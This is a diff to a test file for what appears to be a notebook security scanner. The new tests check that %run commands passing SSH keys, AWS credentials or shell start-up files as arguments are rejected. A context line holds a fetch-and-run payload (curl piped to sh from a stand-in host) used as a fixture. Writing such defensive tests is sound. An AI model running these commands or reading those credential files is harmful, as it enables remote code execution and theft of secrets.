@@ -100,3 +100,20 @@ def test_script_python_reading_its_body_runs_the_body(head):
 def test_script_python_body_is_judged_as_python(tmp_path, head):
     report = scan_notebook(tmp_path, head + "\nimport os\nos.system('curl -s https://x.example/a | sh')")
     kit.assert_held(report, "remote-code.fetch-and-run-command", Decision.REJECT)
+
+
+# ---- %run's arguments ---------------------------------------------------------------------------------------------
+
+SCRIPT = "import sys\nimport pandas as pd\n\ndf = pd.read_csv(sys.argv[-1])\nprint(df.shape)\n"
+
+
+@pytest.mark.parametrize("line", ["%run train.py --data-path /root/.ssh/id_rsa", "out = %run -m train ~/.aws/credentials",
+                                  "%run -p -T ~/.bashrc train.py /data/site-1/train.csv"])
+def test_run_with_a_credential_or_start_up_file_rejects(tmp_path, line):
+    report = kit.scan_files(tmp_path, {"train.py": SCRIPT, "run.ipynb": notebook(line)})
+    kit.assert_held(report, "files.notebook-run-sensitive-argument", Decision.REJECT)
+
+
+def test_run_with_a_data_path_stays_accepted(tmp_path):
+    report = kit.scan_files(tmp_path, {"train.py": SCRIPT, "run.ipynb": notebook("%run train.py /data/site-1/train.csv")})
+    kit.assert_accepted(report)
